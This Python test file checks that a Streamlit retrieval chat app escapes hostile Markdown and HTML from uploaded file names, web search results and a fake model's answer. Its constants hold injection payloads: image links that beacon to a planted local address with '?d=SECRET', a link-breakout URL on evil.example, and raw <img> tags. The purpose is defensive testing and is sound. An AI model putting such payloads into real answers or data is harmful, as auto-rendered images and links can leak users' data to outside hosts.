"""Strings from data never become Markdown the browser acts on (issue 9, item 3), through AppTest.

A hostile file name on the Documents page, a hostile web-result URL, title and text on the Chat and Trace
pages (real graph, offline engine, tavily-python against the fake Tavily server).

Every element that Streamlit renders as Markdown (bodies, captions, alerts, labels, progress
text, pill options, table cells) is checked for a live image, link, autolink or HTML tag.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

import pytest
from streamlit.testing.v1 import AppTest

from app_pages._replay import FLOW_CSS, FLOW_FIT_JS
from tests.conftest import ROOT

APP = str(ROOT / "app.py")
PORT = 9  # a planted address: in the browser test a real server counts hits on it
HOSTILE_NAME = f"![x](http://127.0.0.1:{PORT}/leak).md"
HOSTILE_URL = f"https://evil.example/a)![x](http://127.0.0.1:{PORT}/leak?d=SECRET"
HOSTILE_TEXT = (f"Tungsten boils at 5,930 degrees Celsius. ![y](http://127.0.0.1:{PORT}/text) "
                f"<img src=http://127.0.0.1:{PORT}/html> [click](http://127.0.0.1:{PORT}/link) "
                f"http://127.0.0.1:{PORT}/bare")
HOSTILE_ANSWER = (f"Tungsten boils at 5,930 degrees Celsius [1]. ![y](http://127.0.0.1:{PORT}/answer) "
                  f"<img src=http://127.0.0.1:{PORT}/answer-html>")
NOT_MARKDOWN = {"text", "code", "json", "arrow_data_frame", "plotly_chart", "selectbox",
                "multiselect", "text_input", "number_input"}
"""Elements whose data Streamlit shows as plain text (their labels are still checked)."""
_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
_STRUCTURE = [
    re.compile(r"!?\[[^\]\n]*\]\("),  # inline link or image
    re.compile(r"(?m)^\s{0,3}\[[^\]\n]+\]:"),  # reference definition
    re.compile(r"<\s*/?[A-Za-z!?]"),  # HTML, or an <http://…> autolink
]
_BARE = re.compile(r"(?i)(?:^|[\s!-/:-@\[-`{-~])(?:https?://|www\.)")  # GFM autolink literal


def live_constructs(markdown: str) -> list[str]:
    """What in ``markdown`` would render as a link, an image or HTML.

    (escaped characters are literal text; GFM still autolinks a bare URL even when its punctuation is
    escaped).
    """
    structural = _ESCAPED.sub("\0", markdown)
    literal = re.sub(r"\\(.)", r"\1", markdown)
    found = [m.group(0) for p in _STRUCTURE for m in p.finditer(structural)]
    return found + [m.group(0) for m in _BARE.finditer(literal)]


def markdown_strings(at: AppTest) -> list[tuple[str, str]]:
    """(element type, string) for every string of the page that Streamlit renders as Markdown."""
    out: list[tuple[str, str]] = []

    def strings(message, kind: str) -> None:
        for field, value in message.ListFields():
            items = list(value) if isinstance(value, Sequence) and not isinstance(value, str) \
                else [value]
            if field.type == field.TYPE_MESSAGE:
                for item in items:
                    strings(item, kind)
            elif field.type == field.TYPE_STRING and field.name in (
                    "body", "label", "text", "content", "help", "caption", "markdown"):
                if kind in NOT_MARKDOWN and field.name in ("body", "text"):
                    continue
                out.extend((f"{kind}.{field.name}", item) for item in items)

    def walk(node) -> None:
        kind = getattr(node, "type", "")
        proto = getattr(node, "proto", None)
        # The HTML the app writes itself: the flow's constant CSS and fit script (no data in them, checked).
        ours = kind == "html" and getattr(proto, "body", None) in (FLOW_CSS, FLOW_FIT_JS)
        if proto is not None and not ours:
            strings(proto, kind)
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return out


def assert_nothing_live(at: AppTest) -> list[str]:
    """Fails on any live construct; returns the strings as the user reads them."""
    strings = markdown_strings(at)
    live = [(kind, s, live_constructs(s)) for kind, s in strings if live_constructs(s)]
    assert not live, live
    shown = [re.sub(r"\\(.)", r"\1", s).replace("\u2060", "") for _, s in strings]
    assert any(f"127.0.0.1:{PORT}/" in s for s in shown), "the hostile data was not rendered"
    return shown


def test_the_only_html_the_app_writes_is_one_constant_style():
    # allowed by markdown_strings: a <style> with no data, no markup, no URL
    assert FLOW_CSS.startswith("<style>") and FLOW_CSS.endswith("</style>") and FLOW_CSS.count("<") == 2
    assert "url(" not in FLOW_CSS and "@import" not in FLOW_CSS
    # and one constant script, which only scales the flow to the screen: it loads, fetches and writes nothing
    assert FLOW_FIT_JS.startswith("<script>") and FLOW_FIT_JS.count("</") == 1
    assert not any(w in FLOW_FIT_JS for w in ("http", "fetch", "src", "cookie", "innerHTML", "import"))


def test_the_checker_sees_what_gfm_links():
    assert live_constructs("![x](http://h/x)") and live_constructs("[a](http://h)")
    assert live_constructs("see http\\:\\/\\/127.0.0.1\\:9/x")  # escaped, still autolinked
    assert live_constructs("<img src=x>") and live_constructs("[a]: http://h")
    assert not live_constructs("\\!\\[x\\]\\(\u2060http\\:\\/\\/h\\)")
    assert not live_constructs("**1. retrieve** — :green-badge[relevant] (visit 2)")


def test_hostile_file_name_on_the_documents_page(data_dir):
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.switch_page("app_pages/documents.py").run()
    at.file_uploader(key="docs_uploader").set_value(
        [(HOSTILE_NAME, b"# Notes\n\nTungsten is a metal.\n", "text/markdown")]).run()
    at.button(key="docs_index").click().run()
    assert not at.exception, at.exception
    assert list(at.dataframe[0].value["File"]) == [HOSTILE_NAME]
    assert f"{HOSTILE_NAME}: ingested 1 page, 1 chunk" in assert_nothing_live(at)  # as written

    at = AppTest.from_file(APP, default_timeout=60).run()  # a later visitor
    at.switch_page("app_pages/documents.py").run()
    assert not at.exception, at.exception
    assert_nothing_live(at)


def hostile_script(kind: str, body: dict):
    """The fake model: cooperative, but its answer holds an image, HTML and a link."""
    from tests.fakes.servers import Reply, default_script

    return Reply(HOSTILE_ANSWER) if kind in ("stream", "text") else default_script(kind, body)


@pytest.fixture
def hostile_tavily(monkeypatch):
    """The LLM engine on the fake OpenAI server, and a fake Tavily whose one result is hostile.

    (the offline engine quotes no web result when the knowledge base is empty).
    """
    from tests.fakes.servers import FakeOpenAI, FakeTavily

    llm = FakeOpenAI(script=hostile_script).start()
    server = FakeTavily(results=[{"url": HOSTILE_URL, "title": f"![t](http://127.0.0.1:{PORT}/t)",
                                  "content": HOSTILE_TEXT, "score": 0.9}]).start()
    for name, value in (("TAVILY_API_KEY", "tvly-test-hostile"),
                        ("TAVILY_API_BASE_URL", server.base_url),
                        ("OPENAI_API_KEY", "sk-test-hostile"), ("OPENAI_BASE_URL", llm.base_url),
                        ("RAG_EMBEDDING_MODEL", "hashing")):
        monkeypatch.setenv(name, value)
    yield server
    server.stop()
    llm.stop()


def test_hostile_web_result_on_the_chat_and_trace_pages(hostile_tavily, data_dir):
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.chat_input[0].set_value("What is the boiling point of tungsten?").run()
    assert not at.exception, at.exception
    assert hostile_tavily.requests, "the graph never searched the web"
    run = next(iter(at.session_state["runs"].values()))
    assert any(c.origin == "web" and c.source == HOSTILE_URL for c in run.citations), run
    shown = assert_nothing_live(at)
    assert HOSTILE_URL in shown and f"[1] {HOSTILE_URL} (web)" in shown  # as written
    assert any("Tungsten boils at 5,930 degrees Celsius [1]. ![y](" in s for s in shown)
    # the link to a web result is a link button to the URL as given, never Markdown
    assert {b.proto.url for b in at.get("link_button")} == {HOSTILE_URL}  # sources and [n] markers

    at.button(key=f"chat_trace_{run.id}").click().run()
    assert not at.exception, at.exception
    assert_nothing_live(at)
    at.pills(key="trace_w_node").set_value("web_search").run()
    assert not at.exception, at.exception
    assert_nothing_live(at)
